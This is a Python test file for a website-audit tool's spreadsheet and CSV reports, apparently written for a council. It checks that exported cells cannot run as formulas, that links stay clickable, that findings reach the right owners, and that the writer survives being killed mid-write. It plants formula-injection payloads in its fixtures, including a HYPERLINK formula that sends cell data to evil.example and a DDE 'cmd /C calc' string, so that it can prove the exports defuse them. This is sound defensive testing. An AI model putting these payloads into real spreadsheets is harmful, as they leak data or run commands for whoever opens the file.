"""Spreadsheets and CSVs a person opens: what to fix, clickable links, names, BOM, no formulas.

Crawled titles, link texts and catalogue names are planted with formulas
(``=HYPERLINK(...)``, ``@SUM(...)``) and every file is read back with openpyxl and csv.
"""

from __future__ import annotations

import csv
import json
import os
import signal
import subprocess
import sys
import textwrap
from pathlib import Path

import openpyxl
import pytest

from checks.pipeline.engine import run_checks
from checks.reports.finding import Finding, Severity
from checks.pipeline.registry import rule
from checks.reports.folder import FORMULA_START, safe_cell, write_reports
from checks_testkit import SITE, build_store, make_cfg
from crawler.model import Link, Page
from lo_audit.config import OwnerRule

EVIL_TITLE = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click")'
EVIL_TEXT = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_SERVICE = "=1+2 Holiday club"
RECORD = f"{SITE}/directory/service?id=42"


@pytest.fixture
def evil_store(tmp_path) -> Path:
    pages = [
        Page(url=f"{SITE}/", final_url=f"{SITE}/", status=200, content_type="text/html", title=EVIL_TITLE, depth=0),
        Page(url=f"{SITE}/health", status=200, content_type="text/html", title="+44 call us – now", depth=1),
        Page(url=RECORD, status=200, content_type="text/html", title="-Holiday club", depth=1),
        Page(url=f"{SITE}/gone", status=404, depth=1),
    ]
    links = [Link(source=f"{SITE}/", target=f"{SITE}/gone", href="/gone", text=EVIL_TEXT),
             Link(source=f"{SITE}/health", target=f"{SITE}/gone", href="/gone", text="\tTab"),
             Link(source=f"{SITE}/", target=RECORD, href="/directory/service?id=42")]
    return build_store(tmp_path / "crawl.sqlite", pages, links)


@pytest.fixture
def evil_rules(isolated_rules):
    @rule("testing.evil", "warning")
    def evil(ctx):
        """Findings carrying crawled and catalogue text that looks like formulas."""
        ctx.metrics["services"] = [{"id": "sc-004", "name": EVIL_SERVICE, "owner": "Short Breaks Team",
                                    "status": "found", "url": RECORD}]
        return [
            Finding("links.broken", f"{SITE}/gone", Severity.ERROR, "A link on 2 pages leads to a page that does "
                    "not work (status 404).", url=f"{SITE}/", expected="a working page",
                    found=f"{SITE}/gone answers status 404", fix="=Update the link → now",
                    evidence={"target": f"{SITE}/gone", "text": EVIL_TEXT, "pages": [f"{SITE}/", f"{SITE}/health"],
                              "page_count": 2}),
            Finding("content.stale", RECORD, Severity.WARNING, EVIL_TITLE, url=RECORD, found="@last year"),
            Finding("contact.phone", "sc-004", Severity.ERROR, "Phone differs.", url=RECORD, expected="+441174960000",
                    found="-0117 496 0999", service_id="sc-004"),
        ]
    return isolated_rules


def _catalogue(tmp_path) -> str:
    path = tmp_path / "catalogue.yml"
    path.write_text(textwrap.dedent(f"""\
        services:
          - id: sc-004
            name: "{EVIL_SERVICE}"
            owner:
              team: Short Breaks Team
              email: breaks@example.gov.uk
            expected_urls: ["{RECORD}"]
        """), encoding="utf-8")
    return str(path)


def _cfg(tmp_path, store, **extra):
    owners = (OwnerRule(pattern=f"{SITE}/*", owner="SEND Information Team", email="info@example.gov.uk"),)
    return make_cfg(tmp_path, store, today="2024-06-01", owners=owners, **extra)


def _no_formula(value) -> None:
    assert not (isinstance(value, str) and value.startswith(FORMULA_START)), value


def _csv_rows(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), f"{path.name} has no UTF-8 byte order mark"
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def test_safe_cell():
    for bad in ("=1+1", "+44", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_cell(bad) == "'" + bad
    assert safe_cell("Holiday club") == "Holiday club" and safe_cell(-3) == -3 and safe_cell(None) is None


def test_no_cell_of_any_csv_or_xlsx_can_run_as_a_formula(tmp_path, evil_store, evil_rules):
    cfg = _cfg(tmp_path, evil_store, catalogue=_catalogue(tmp_path))
    out = write_reports(run_checks(cfg), cfg)
    csvs = sorted(out.rglob("*.csv"))
    assert {p.name for p in csvs} >= {"findings.csv", "pages.csv", "short-breaks-team.csv"}
    planted = 0
    for path in csvs:
        for row in _csv_rows(path):
            for value in row:
                _no_formula(value)
                planted += value.startswith("'=") or value.startswith("'@") or value.startswith("'+")
    assert planted >= 4  # the planted values are there, defused, not dropped
    pages = {r[0]: r for r in _csv_rows(out / "pages.csv")[1:]}
    assert pages[f"{SITE}/"][4] == "'" + EVIL_TITLE
    books = sorted(out.rglob("*.xlsx"))
    assert {p.name for p in books} >= {"findings.xlsx", "short-breaks-team.xlsx"}
    for path in books:
        wb = openpyxl.load_workbook(path)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
                    _no_formula(cell.value)


def test_owner_files_say_what_to_fix(tmp_path, evil_store, evil_rules):
    cfg = _cfg(tmp_path, evil_store, catalogue=_catalogue(tmp_path))
    out = write_reports(run_checks(cfg), cfg)
    rows = _csv_rows(out / "owners/send-information-team.csv")
    header, body = rows[0], [dict(zip(rows[0], r)) for r in rows[1:]]
    assert {"Link target", "Other pages with this problem", "Expected", "Found", "How to fix"} <= set(header)
    broken = next(r for r in body if r["Rule"] == "links.broken")
    assert broken["Link target"] == f"{SITE}/gone" and f"{SITE}/gone" in broken["Found"]
    assert broken["Other pages with this problem"] == f"{SITE}/health"
    assert "→" in broken["How to fix"]  # survives the round trip (BOM: Excel reads UTF-8)

    ws = openpyxl.load_workbook(out / "owners/short-breaks-team.xlsx").active
    head = [c.value for c in ws[1]]
    phone = next(r for r in ws.iter_rows(min_row=2) if r[head.index("Rule")].value == "contact.phone")
    assert phone[head.index("Service")].value == "'" + EVIL_SERVICE  # the name, not "sc-004"
    page = phone[head.index("Page URL")]
    assert page.hyperlink is not None and page.hyperlink.target == RECORD


def test_record_page_findings_go_to_the_services_owner(tmp_path, evil_store, evil_rules):
    cfg = _cfg(tmp_path, evil_store, catalogue=_catalogue(tmp_path))
    result = run_checks(cfg)
    stale = next(f for f in result.findings if f.rule == "content.stale")
    assert (stale.owner, stale.service_id) == ("Short Breaks Team", "sc-004")


def test_one_workbook_of_every_finding_for_the_manager(tmp_path, evil_store, evil_rules):
    cfg = _cfg(tmp_path, evil_store, catalogue=_catalogue(tmp_path))
    out = write_reports(run_checks(cfg), cfg)
    ws = openpyxl.load_workbook(out / "findings.xlsx")["Findings"]
    head = [c.value for c in ws[1]]
    rows = [[c.value for c in r] for r in ws.iter_rows(min_row=2)]
    assert len(rows) == 3 and {"Owner", "Link target", "Service", "Finding id"} <= set(head)
    assert {r[head.index("Owner")] for r in rows} == {"SEND Information Team", "Short Breaks Team"}
    target = next(r for r in ws.iter_rows(min_row=2) if r[head.index("Rule")].value == "links.broken")
    assert target[head.index("Link target")].hyperlink.target == f"{SITE}/gone"


KILLER = """
import sys, time
sys.path[:0] = {paths!r}
import checks.reports.folder as reports
from checks.pipeline.engine import run_checks
from checks_testkit import make_cfg
from pathlib import Path
real = reports.write_owners
def slow(*args, **kwargs):
    print("writing", flush=True)
    time.sleep(30)
    return real(*args, **kwargs)
reports.write_owners = slow
cfg = make_cfg(Path({tmp!r}), Path({db!r}), today="2024-07-01")
reports.write_reports(run_checks(cfg), cfg)
"""


def test_kill_during_check_never_leaves_a_mixed_reports_folder(tmp_path, evil_store, evil_rules):
    cfg = make_cfg(tmp_path, evil_store, today="2024-06-01")
    out = write_reports(run_checks(cfg), cfg)
    before = {p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file()}
    paths = [str(Path(__file__).parents[1]), *sys.path]  # checks_testkit
    proc = subprocess.Popen([sys.executable, "-c", KILLER.format(paths=paths, tmp=str(tmp_path), db=str(evil_store))],
                            stdout=subprocess.PIPE, text=True)
    try:
        assert proc.stdout.readline().strip() == "writing"  # findings.json and pages.csv are written by now
        os.kill(proc.pid, signal.SIGKILL)
    finally:
        proc.wait(10)
    after = {p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file()}
    assert after == before  # the old folder, whole
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".reports.")]  # the half-written one, aside
    write_reports(run_checks(make_cfg(tmp_path, evil_store, today="2024-07-01")), cfg)
    assert not [p.name for p in tmp_path.iterdir() if p.name.startswith(".reports.")]
    assert json.loads((out / "findings.json").read_text())["today"] == "2024-07-01"
    dates = [e["date"] for e in json.loads((out / "history.json").read_text())]
    assert dates == ["2024-06-01", "2024-07-01"]


def test_history_is_sorted_by_date(tmp_path, evil_store, evil_rules):
    for day in ("2024-06-08", "2024-06-01", "2024-06-15"):
        cfg = make_cfg(tmp_path, evil_store, today=day)
        write_reports(run_checks(cfg), cfg)
    dates = [e["date"] for e in json.loads((tmp_path / "reports/history.json").read_text())]
    assert dates == ["2024-06-01", "2024-06-08", "2024-06-15"]
    data = json.loads((tmp_path / "reports/findings.json").read_text())
    assert data["metrics"]["compared_with"] == "2024-06-01"


def test_expired_waiver_finding_shows_no_file_path_to_a_service_team():
    from datetime import date

    from checks.triage.waivers import Waiver, apply_waivers

    waiver = Waiver(index=0, rule="links.broken", reason="Moving in January", who="Jo", expires="2020-01-31",
                    url=f"{SITE}/old/*", source="/srv/council/audit/waivers.yml:8: waivers.0")
    active, _ = apply_waivers([], [waiver], date(2026, 11, 1))
    shown = " ".join((active[0].message, active[0].expected, active[0].found, active[0].fix))
    assert "waivers.yml" not in shown and "/srv/" not in shown
    assert active[0].evidence["waiver"]["source"].endswith("waivers.0")  # kept for the manager's files
